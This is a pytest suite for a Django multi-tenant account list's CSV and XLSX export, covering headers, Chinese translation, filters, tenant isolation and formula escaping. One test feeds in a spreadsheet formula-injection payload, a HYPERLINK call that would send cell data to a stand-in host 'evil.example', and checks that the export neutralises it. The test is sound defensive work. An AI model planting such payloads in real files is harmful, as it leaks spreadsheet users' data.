"""Export of the account list: CSV and XLSX, filtered, translated, and formula-safe."""

from __future__ import annotations

import csv
import datetime as dt
import io
from decimal import Decimal

import pytest
from django.test import Client
from django.utils import translation
from openpyxl import load_workbook

from accounts import exports
from accounts.models import AccountStatus, HealthBand, Tier
from accounts.validators import credit_code_check_character
from kam.tenancy import tenant_today
from tests.factories import AccountFactory

pytestmark = pytest.mark.django_db

ENGLISH_HEADERS = [
    "Name",
    "Legal name",
    "Unified social credit code",
    "Parent",
    "Tier",
    "Score",
    "Health band",
    "Health score",
    "Status",
    "Industry",
    "Region",
    "Owner",
    "Cooperating since",
]
CODE = "91110000600037341" + credit_code_check_character("91110000600037341")


def client_in(user, language: str = "en") -> Client:
    client = Client(HTTP_ACCEPT_LANGUAGE=language)
    client.force_login(user)
    return client


def csv_rows(response) -> list[list[str]]:
    body = response.content
    assert body.startswith(b"\xef\xbb\xbf")  # UTF-8 BOM, so Excel reads the Chinese
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


def xlsx_rows(response) -> list[list]:
    sheet = load_workbook(io.BytesIO(response.content), read_only=True).worksheets[0]
    return [list(row) for row in sheet.iter_rows(values_only=True)]


@pytest.fixture
def exported(tenant, manager, account):
    """The manager's account (from conftest) plus a tiered subsidiary with every column filled."""
    return AccountFactory(
        tenant=tenant, name="中车唐山", legal_name="中车唐山机车车辆有限公司", credit_code=CODE, parent=account,
        tier=Tier.S, score=Decimal("91.50"), health_band=HealthBand.YELLOW, health_score=Decimal("64.00"),
        status=AccountStatus.DORMANT, industry="轨道交通", region="河北", owner=manager,
        cooperation_since=dt.date(2017, 6, 1),
    )  # fmt: skip


def test_csv_export_in_english(tenant, admin, manager, exported):
    # when the whole list is exported as CSV
    response = client_in(admin).get("/t/acme/accounts/export/?format=csv")
    # then an attachment named by today's date
    today = tenant_today(tenant)
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == f'attachment; filename="accounts-{today:%Y%m%d}.csv"'
    # with English headers and display labels, in name order
    rows = csv_rows(response)
    assert rows[0] == ENGLISH_HEADERS
    assert rows[1:] == [
        ["中车华北集团", "中车华北集团有限公司", "", "", "", "", "", "", "Active", "", "", manager.display_name, ""],
        [
            "中车唐山", "中车唐山机车车辆有限公司", CODE, "中车华北集团", "S · Strategic", "91.50", "Watch", "64.00",
            "Dormant", "轨道交通", "河北", manager.display_name, "2017-06-01",
        ],
    ]  # fmt: skip


def test_xlsx_export(tenant, admin, manager, exported):
    response = client_in(admin).get("/t/acme/accounts/export/?format=xlsx&q=唐山")
    today = tenant_today(tenant)
    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert response["Content-Disposition"] == f'attachment; filename="accounts-{today:%Y%m%d}.xlsx"'
    rows = xlsx_rows(response)
    assert rows[0] == ENGLISH_HEADERS
    assert len(rows) == 2
    # numbers are numbers and the date a date cell (openpyxl reads it back as a datetime)
    assert rows[1][:12] == [
        "中车唐山", "中车唐山机车车辆有限公司", CODE, "中车华北集团", "S · Strategic", 91.5, "Watch", 64.0,
        "Dormant", "轨道交通", "河北", manager.display_name,
    ]  # fmt: skip
    assert rows[1][12].date() == dt.date(2017, 6, 1)


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_headers_in_chinese(admin, exported, file_format):
    # given the headers as the catalogue translates them (the lead completes the catalogue)
    with translation.override("zh-hans"):
        chinese = exports.headers()
    # when exported by a user reading Chinese
    response = client_in(admin, "zh-hans").get(f"/t/acme/accounts/export/?format={file_format}")
    header = csv_rows(response)[0] if file_format == "csv" else xlsx_rows(response)[0]
    # then the header row is the translated one; the credit code's translation exists already
    assert header == chinese
    assert "统一社会信用代码" in header
    assert header != ENGLISH_HEADERS
    # and values stay values: the status label follows the language too
    body = csv_rows(response)[1:] if file_format == "csv" else xlsx_rows(response)[1:]
    with translation.override("zh-hans"):
        assert body[1][8] == str(AccountStatus.DORMANT.label)


def test_export_has_all_filtered_rows_not_one_page(tenant, admin):
    # given 30 matching accounts (more than a page of 25) and 2 others
    for number in range(30):
        AccountFactory(tenant=tenant, name=f"轨交客户 {number:02d}", industry="轨道交通")
    AccountFactory(tenant=tenant, name="汽车客户 A", industry="汽车")
    AccountFactory(tenant=tenant, name="汽车客户 B", industry="汽车", status=AccountStatus.LOST)
    client = client_in(admin)
    # when exported with the list's filters and sort
    filtered = csv_rows(client.get("/t/acme/accounts/export/?format=csv&industry=轨道交通&sort=-name&page=2"))
    lost = csv_rows(client.get("/t/acme/accounts/export/?format=csv&status=lost"))
    # then every matching row, in the list's order
    assert [row[0] for row in filtered[1:]] == [f"轨交客户 {n:02d}" for n in range(29, -1, -1)]
    assert [row[0] for row in lost[1:]] == ["汽车客户 B"]


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_formula_injection_is_neutralised(tenant, admin, file_format):
    # given accounts whose texts a spreadsheet would run as formulas
    AccountFactory(
        tenant=tenant, name='=HYPERLINK("http://evil.example/?x="&A1,"点我")', legal_name="+86 10 1234 5678",
        industry="-2+3", region="@SUM(1+1)",
    )  # fmt: skip
    AccountFactory(tenant=tenant, name="\tTabbed", legal_name="\rReturn", industry="普通 = 文本")
    # when exported
    response = client_in(admin).get(f"/t/acme/accounts/export/?format={file_format}")
    rows = csv_rows(response) if file_format == "csv" else xlsx_rows(response)
    by_name = {row[0]: row for row in rows[1:]}
    # then each such cell starts with a single quote; other text is untouched
    hyperlink = by_name['\'=HYPERLINK("http://evil.example/?x="&A1,"点我")']
    assert hyperlink[1] == "'+86 10 1234 5678"
    assert (hyperlink[9], hyperlink[10]) == ("'-2+3", "'@SUM(1+1)")
    tabbed = by_name["'\tTabbed"]
    assert tabbed[1] == ("'\rReturn" if file_format == "csv" else "'\nReturn")  # XML reads a CR back as LF
    assert tabbed[9] == "普通 = 文本"


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@A1", "'@A1"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("a=1", "a=1"),
        ("", ""),
        (Decimal("-5"), Decimal("-5")),  # numbers are numbers, not formulas
        (None, None),
    ],
)
def test_neutralise(value, expected):
    assert exports.neutralise(value) == expected


def test_export_never_holds_another_tenants_rows(admin, account, foreign_account):
    for file_format in ("csv", "xlsx"):
        response = client_in(admin).get(f"/t/acme/accounts/export/?format={file_format}&q=Globex")
        rows = csv_rows(response) if file_format == "csv" else xlsx_rows(response)
        assert rows == [ENGLISH_HEADERS]
        everything = client_in(admin).get(f"/t/acme/accounts/export/?format={file_format}")
        names = [row[0] for row in (csv_rows(everything) if file_format == "csv" else xlsx_rows(everything))[1:]]
        assert names == ["中车华北集团"]


def test_outsider_cannot_export_the_tenant(account, outsider):
    assert client_in(outsider).get("/t/acme/accounts/export/?format=csv").status_code == 404
    assert client_in(outsider).get("/t/acme/accounts/export/?format=xlsx").status_code == 404


def test_member_exports_only_their_accounts(tenant, account, member):
    AccountFactory(tenant=tenant, name="李静的客户", owner=member)
    rows = csv_rows(client_in(member).get("/t/acme/accounts/export/?format=csv"))
    assert [row[0] for row in rows[1:]] == ["李静的客户"]


def test_unknown_format_is_refused(admin, account):
    response = client_in(admin).get("/t/acme/accounts/export/?format=pdf")
    assert response.status_code == 400
    assert response.content.decode() == "Choose the format csv or xlsx."


def test_export_links_on_the_list_carry_the_filters(admin, account):
    html = client_in(admin).get("/t/acme/accounts/?status=active&sort=-name&page=1").content.decode()
    assert 'href="/t/acme/accounts/export/?format=csv&amp;status=active&amp;sort=-name"' in html
    assert 'href="/t/acme/accounts/export/?format=xlsx&amp;status=active&amp;sort=-name"' in html
